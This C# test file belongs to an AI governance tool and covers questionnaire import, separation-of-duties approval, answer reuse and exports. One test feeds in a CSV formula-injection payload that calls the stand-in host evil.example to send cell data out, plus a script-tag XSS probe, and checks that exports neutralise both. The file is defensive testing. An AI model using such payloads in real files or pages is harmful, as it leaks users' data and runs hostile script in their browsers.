using System.Text;
using System.Text.Json.Nodes;
using Attest.Core.Common;
using Attest.Core.Features.Assurance;
using Attest.Core.Features.Compliance;
using Attest.Core.Features.Evidence;
using Attest.Core.Features.Inventory;
using Attest.Core.Governance;
using Attest.Core.Tests.Compliance;
using Attest.Core.Tests.Support;
using Attest.Engine.Access;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;

namespace Attest.Core.Tests.Assurance;

/// <summary>
/// Customer assurance on real SQLite: a high-tier system (resume screening, owned by Dana Kim) answers the demo's
/// customer questionnaire (data/demo/assurance/customer-ai-due-diligence.csv); Gus, a governance lead outside the
/// system's team, approves; a second questionnaire reuses what was approved; exports and the trust page.
/// </summary>
public sealed class AssuranceTests : IAsyncLifetime
{
    private TestDatabase _db = null!;

    private static readonly CallerIdentity Gus = new(new Actor("user:gus", "Gus Lead"), [Roles.GovernanceLead], [], null, "gus");

    public async ValueTask InitializeAsync()
    {
        _db = await TestDatabase.CreateAsync();
        (await _db.Get<RegisterSystem>().ExecuteAsync(Inputs.System(), Actors.Dana, Ct)).IsOk.ShouldBeTrue();
        (await _db.Get<SubmitIntake>().ExecuteAsync("resume-screening", IntakeAnswersJson.ResumeScreener, Actors.Dana, Ct)).IsOk.ShouldBeTrue();
    }

    public async ValueTask DisposeAsync() => await _db.DisposeAsync();

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static string DemoQuestionnaire => File.ReadAllText(Path.Combine(RepoRoot(), "data", "demo", "assurance", "customer-ai-due-diligence.csv"));

    private static string RepoRoot()
    {
        var dir = new DirectoryInfo(AppContext.BaseDirectory);
        while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "Attest.slnx"))) dir = dir.Parent;
        return dir?.FullName ?? throw new InvalidOperationException("repository root not found");
    }

    private Task<Result<QuestionnaireDto>> ImportAsync(string fileName, string text, CallerIdentity? caller = null) =>
        ImportAsync(fileName, Encoding.UTF8.GetBytes(text), caller);

    private async Task<Result<QuestionnaireDto>> ImportAsync(string fileName, byte[] bytes, CallerIdentity? caller = null) =>
        await _db.Get<ImportQuestionnaire>().ExecuteAsync("resume-screening", fileName, new MemoryStream(bytes), null, caller ?? Actors.Dana, Ct);

    private async Task<QuestionnaireDto> ImportOkAsync(string fileName, string text)
    {
        var result = await ImportAsync(fileName, text);
        result.IsOk.ShouldBeTrue(result.Message);
        return result.Value!;
    }

    private async Task<List<(string Action, JsonNode Payload)>> LedgerAsync(string prefix)
    {
        await using var db = _db.NewContext();
        return (await db.Ledger.AsNoTracking().OrderBy(e => e.Seq).Select(e => new { e.Action, e.PayloadJson }).ToListAsync(Ct))
            .Where(e => e.Action.StartsWith(prefix, StringComparison.Ordinal)).Select(e => (e.Action, JsonNode.Parse(e.PayloadJson)!)).ToList();
    }

    [Theory]
    [InlineData("answers.txt", "id,question\n1,Do you?\n", "'answers.txt' is not a questionnaire: send a .csv or .xlsx file with a question column")]
    [InlineData("q.csv", "id,topic\n1,Policy\n", "row 1: no question column (expected a header named question or text; found 'id', 'topic')")]
    [InlineData("q.csv", "\n\nQuestion ID;Question\nA1;Is there a policy?\nA2;\n", "row 5, column B (question): is empty")]
    [InlineData("q.csv", "id,question\n1,\"Is there a policy?\n", "row 2: a quoted field is not closed")]
    [InlineData("q.xlsx", "id,question\n1,Policy?\n", "'q.xlsx' is not an XLSX workbook (not a zip package)")]
    [InlineData("q.csv", "id,question\n1,One?\n1,Two?\n", "row 3, column A (id): '1' repeats row 2")]
    [InlineData("q.csv", "id,question\n", "has a question column (B) but no questions under it")]
    public async Task A_questionnaire_that_cannot_be_read_is_refused_naming_the_file_row_and_column(string fileName, string content, string problem)
    {
        var result = await ImportAsync(fileName, content);
        result.Kind.ShouldBe(ResultKind.Invalid);
        result.Errors["file"].ShouldContain(problem);
        (await LedgerAsync("assurance.")).ShouldBeEmpty();
    }

    [Fact]
    public async Task Hostile_files_are_refused_by_encoding_size_and_package()
    {
        (await ImportAsync("q.csv", [.. "id,question\n1,caf"u8.ToArray(), 0xE9, .. "?\n"u8.ToArray()])).Errors["file"][0].ShouldStartWith("is not UTF-8 text");
        (await ImportAsync("q.csv", new byte[2 * 1024 * 1024 + 1])).Errors["file"].ShouldBe(["is larger than 2 MB"]);
        (await ImportAsync("q.xlsx", [(byte)'P', (byte)'K', 3, 4, 0, 0])).Errors["file"][0].ShouldStartWith("is not a readable XLSX workbook");
    }

    [Fact]
    public async Task Each_question_gets_the_controls_that_answer_it_with_the_systems_status_today()
    {
        var q = await ImportOkAsync("customer-ai-due-diligence.csv", DemoQuestionnaire);

        q.Questions.Count.ShouldBe(12);
        q.Questions.Select(a => a.QuestionRef).ShouldBe(Enumerable.Range(1, 12).Select(i => $"AI-{i:00}"));
        q.Questions.ShouldAllBe(a => a.State == AnswerStates.Proposed && !a.Reused);
        Controls(q, "AI-01")[0].ShouldBe("ATT-GOV-01");
        Controls(q, "AI-04")[0].ShouldBe("ATT-DATA-02");
        Controls(q, "AI-06")[0].ShouldBe("ATT-OVS-01");
        Controls(q, "AI-07")[0].ShouldBe("ATT-OPS-01");
        Controls(q, "AI-08").ShouldContain("ATT-OPS-03");

        // The statuses are the one truth: the system's standing.
        var standing = (await _db.Get<GetSystemStanding>().ExecuteAsync("resume-screening", Ct)).Value!;
        foreach (var control in q.Questions.SelectMany(a => a.Controls))
            control.Status.ShouldBe(standing.Controls.Single(c => c.ControlId == control.ControlId).Status, control.ControlId);
        q.Questions.Single(a => a.QuestionRef == "AI-01").Answer!.ShouldStartWith("AI policy and regulatory register (ATT-GOV-01): not started. ");

        var imported = (await LedgerAsync("assurance.")).Single();
        imported.Action.ShouldBe("assurance.questionnaire_imported");
        imported.Payload["questions"]!.GetValue<int>().ShouldBe(12);
    }

    private static IReadOnlyList<string> Controls(QuestionnaireDto q, string questionRef) =>
        q.Questions.Single(a => a.QuestionRef == questionRef).Controls.Select(c => c.ControlId).ToList();

    [Fact]
    public async Task A_governance_lead_outside_the_team_approves_an_answer_and_the_ledger_records_it()
    {
        var q = await ImportOkAsync("customer-ai-due-diligence.csv", DemoQuestionnaire);
        var policy = q.Questions.Single(a => a.QuestionRef == "AI-01");

        // The system's own owner may draft, not vouch for the system to customers.
        var byOwner = await _db.Get<ApproveAnswer>().ExecuteAsync(q.Id, policy.Id, null, null, Actors.Dana, Ct);
        byOwner.Kind.ShouldBe(ResultKind.Forbidden);
        byOwner.Message.ShouldStartWith("Separation of duties");

        var edited = await _db.Get<EditAnswer>().ExecuteAsync(q.Id, policy.Id, new AnswerInput { Answer = "Yes: our AI policy is approved by the board and reviewed yearly." }, policy.Version, Actors.Dana, Ct);
        edited.Value!.Questions.Single(a => a.Id == policy.Id).State.ShouldBe(AnswerStates.Edited);

        var stale = await _db.Get<ApproveAnswer>().ExecuteAsync(q.Id, policy.Id, null, policy.Version, Gus, Ct);
        stale.Kind.ShouldBe(ResultKind.PreconditionFailed);

        var approved = await _db.Get<ApproveAnswer>().ExecuteAsync(q.Id, policy.Id, null, null, Gus, Ct);
        approved.IsOk.ShouldBeTrue(approved.Message);
        var answer = approved.Value!.Questions.Single(a => a.Id == policy.Id);
        answer.State.ShouldBe(AnswerStates.Approved);
        answer.ApprovedBy.ShouldBe("user:gus");
        approved.Value.Approved.ShouldBe(1);

        var entries = await LedgerAsync("assurance.answer_");
        entries.Select(e => e.Action).ShouldBe(["assurance.answer_edited", "assurance.answer_approved"]);
        entries[1].Payload["answer"]!.GetValue<string>().ShouldBe("Yes: our AI policy is approved by the board and reviewed yearly.");
        entries[1].Payload["question_ref"]!.GetValue<string>().ShouldBe("AI-01");

        (await _db.Get<ApproveAnswer>().ExecuteAsync(q.Id, policy.Id, null, null, Gus, Ct)).Kind.ShouldBe(ResultKind.Conflict);
    }

    [Fact]
    public async Task An_approved_answer_is_proposed_first_for_the_same_or_a_near_identical_question_next_time()
    {
        var first = await ImportOkAsync("customer-ai-due-diligence.csv", DemoQuestionnaire);
        var policy = first.Questions.Single(a => a.QuestionRef == "AI-01");
        var oversight = first.Questions.Single(a => a.QuestionRef == "AI-06");
        (await _db.Get<ApproveAnswer>().ExecuteAsync(first.Id, policy.Id, new AnswerInput { Answer = "Yes, reviewed yearly by the board." }, null, Gus, Ct)).IsOk.ShouldBeTrue();
        (await _db.Get<ApproveAnswer>().ExecuteAsync(first.Id, oversight.Id, new AnswerInput { Answer = "Yes: every decision can be reviewed and overridden." }, null, Gus, Ct)).IsOk.ShouldBeTrue();

        var second = await ImportOkAsync("renewal.csv", """
            #,Text
            1,"DO YOU MAINTAIN A WRITTEN AI POLICY, THAT IS REVIEWED AT LEAST YEARLY AND APPROVED BY MANAGEMENT"
            2,Can human reviewers oversee and override decisions of the AI system (EU AI Act Art. 14)?
            3,Do you maintain a written AI policy?
            """);

        var exact = second.Questions[0];
        exact.Reused.ShouldBeTrue();
        exact.ReusedFrom.ShouldBe(policy.Id);
        exact.Answer.ShouldBe("Yes, reviewed yearly by the board.");
        exact.State.ShouldBe(AnswerStates.Proposed);
        var near = second.Questions[1];
        near.Reused.ShouldBeTrue();
        near.ReusedFrom.ShouldBe(oversight.Id);
        near.Answer.ShouldBe("Yes: every decision can be reviewed and overridden.");
        second.Questions[2].Reused.ShouldBeFalse();
        (await LedgerAsync("assurance.questionnaire_imported")).Last().Payload["reused"]!.GetValue<int>().ShouldBe(2);
    }

    [Fact]
    public async Task The_trust_page_names_only_evidence_marked_shareable_and_exports_never_carry_a_formula()
    {
        var shared = await AddEvidenceAsync("ai-policy-2026.pdf");
        var internalOnly = await AddEvidenceAsync("board-minutes-confidential.pdf");
        (await _db.Get<SetEvidenceShareable>().ExecuteAsync(shared, new ShareableInput { Shareable = true }, Actors.Dana with { Roles = [Roles.ProductOwner] }, Ct)).Kind.ShouldBe(ResultKind.Forbidden);
        (await _db.Get<SetEvidenceShareable>().ExecuteAsync(shared, new ShareableInput { Shareable = true }, Gus, Ct)).Value!.Shareable.ShouldBeTrue();
        (await LedgerAsync("evidence.shareable_changed")).Single().Payload["evidence_id"]!.GetValue<string>().ShouldBe(shared);

        var q = await ImportOkAsync("hostile.csv", """
            id,question
            P1,Do you maintain an AI policy that is reviewed yearly?
            X1,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"
            X2,<script>alert('x')</script> Do you log decisions?
            """);
        foreach (var a in q.Questions)
            (await _db.Get<ApproveAnswer>().ExecuteAsync(q.Id, a.Id, new AnswerInput { Answer = a.QuestionRef == "X1" ? "-2+3" : "Yes." }, null, Gus, Ct)).IsOk.ShouldBeTrue();
        q.Questions.Single(a => a.QuestionRef == "P1").Evidence.Select(e => (e.FileName, e.Shareable))
            .ShouldBe([("board-minutes-confidential.pdf", false), ("ai-policy-2026.pdf", true)], ignoreOrder: true);

        var html = Encoding.UTF8.GetString((await _db.Get<ExportQuestionnaire>().ExecuteAsync(q.Id, "html", ReadScope.Everything, Ct)).Value!.Content);
        html.ShouldContain("ai-policy-2026.pdf");
        html.ShouldNotContain("board-minutes-confidential");
        html.ShouldNotContain("<script>");
        html.ShouldContain("&lt;script&gt;");

        var csv = Encoding.UTF8.GetString((await _db.Get<ExportQuestionnaire>().ExecuteAsync(q.Id, "csv", ReadScope.Everything, Ct)).Value!.Content);
        csv.ShouldContain("\"'=HYPERLINK(");
        csv.ShouldContain(",'-2+3,");
        csv.ShouldNotContain("board-minutes-confidential");

        var xlsx = (await _db.Get<ExportQuestionnaire>().ExecuteAsync(q.Id, "xlsx", ReadScope.Everything, Ct)).Value!;
        xlsx.FileName.ShouldBe("resume-screening-hostile.xlsx");
        var rows = MiniExcel.Query(new MemoryStream(xlsx.Content), useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
        rows.Count.ShouldBe(3);
        rows[1]["question"].ToString()!.ShouldStartWith("'=HYPERLINK(");
        rows[1]["answer"].ToString().ShouldBe("'-2+3");
        rows[0]["evidence"].ToString()!.ShouldContain("ai-policy-2026.pdf");
        rows[0]["evidence"].ToString()!.ShouldNotContain("board-minutes");

        (await _db.Get<ExportQuestionnaire>().ExecuteAsync(q.Id, "pdf", ReadScope.Everything, Ct)).Errors["format"].ShouldBe(["must be one of csv, xlsx, html"]);
        (await _db.Get<GetQuestionnaire>().ExecuteAsync(q.Id, ReadScope.Only("sys_other"), Ct)).Kind.ShouldBe(ResultKind.NotFound);
    }

    private async Task<string> AddEvidenceAsync(string fileName)
    {
        var result = await _db.Get<AddEvidence>().ExecuteAsync("resume-screening",
            new EvidenceInput { Type = "policy_document", Controls = ["ATT-GOV-01"], FileName = fileName, MediaType = "application/pdf" },
            new MemoryStream(Encoding.UTF8.GetBytes("%PDF-1.4 " + fileName)), Actors.Dana, Ct);
        result.IsOk.ShouldBeTrue(result.Message);
        return result.Value!.Id;
    }
}
